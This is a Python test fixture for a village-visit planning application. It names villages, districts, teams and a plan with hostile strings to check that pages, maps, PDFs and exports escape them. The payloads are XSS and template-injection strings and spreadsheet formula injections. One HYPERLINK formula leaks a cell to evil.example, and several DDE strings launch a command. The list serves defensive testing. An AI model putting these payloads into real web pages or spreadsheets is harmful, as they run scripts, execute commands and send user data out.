"""Hostile names for villages, kecamatan and teams: markup, script, template and spreadsheet
formula payloads. Every page, map, PDF and export must show them as plain text."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>",
    "javascript:alert(3)",
    "' onmouseover='alert(4)' x='",
    "<svg/onload=alert(5)>",
    "<iframe src=//evil.example></iframe>",
    "{{7*7}} {% raw %}",
    "${alert(6)} `alert(7)`",
    "</style><b>tebal</b>",
    "Desa\u2028Baris\u2029Baru",
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
#: Payloads a spreadsheet would run as a formula if a cell started with them.
FORMULAS = tuple(p for p in PAYLOADS if p[:1] in "=+-@")


def load_hostile_plan(app) -> tuple[int, int, dict]:
    """Villages, a kecamatan, the dataset, the base, two teams and the plan named with the
    payloads, and a real plan over them (2 s solve). Returns (plan id, version, Plan JSON)."""
    import datetime as dt

    import geopandas as gpd
    import pandas as pd
    from shapely.geometry import box

    from planner import params as P
    from planner import pipeline, plan_json, repository

    rows, recap = [], []
    for i, name in enumerate(PAYLOADS):
        lat, lon = -2.45 + (i % 5) * 0.06, 112.85 + (i // 5) * 0.08
        code = f"99.01.09.2{i + 1:03d}"
        rows.append({"code": code, "name": name,
                     "kecamatan": PAYLOADS[i % 3] if i < 6 else "Kec. Aman",
                     "kecamatan_code": "99.01.09", "type": "desa", "access": "road",
                     "no_signal": False, "stop_lat": lat, "stop_lon": lon,
                     "geometry": box(lon - 0.02, lat - 0.02, lon + 0.02, lat + 0.02)})
        recap.append({"code": code, "population": 700, "obliged": 500, "recorded": 430})
    with app.app_context():
        repository.replace_villages(gpd.GeoDataFrame(rows, geometry="geometry", crs="EPSG:4326"),
                                    source_file="xss.geojson", fictional=True)
        ds = repository.add_dataset(pd.DataFrame(recap), name=PAYLOADS[1],
                                    snapshot_date=dt.date(2026, 10, 31), recap_file="xss.csv",
                                    fictional=True, synthetic=True, basemap=False)
        base = repository.set_default_base(PAYLOADS[0], -2.54, 112.95)
        b = {"id": base.id, "name": base.name, "lat": base.lat, "lon": base.lon}
        params = P.build(name=PAYLOADS[11], dataset_id=ds.id, start_date="2026-12-07", days=3,
                         teams=[P.team(PAYLOADS[2], b), P.team(PAYLOADS[12], b)], time_limit=2)
        version = pipeline.run(params, workers=1)
        stops = {ref.stop["name"] for ref in plan_json.iter_stops(version.result)}
        assert len(stops) >= 8, "most hostile villages are visited"
        return version.plan_id, version.version, version.result
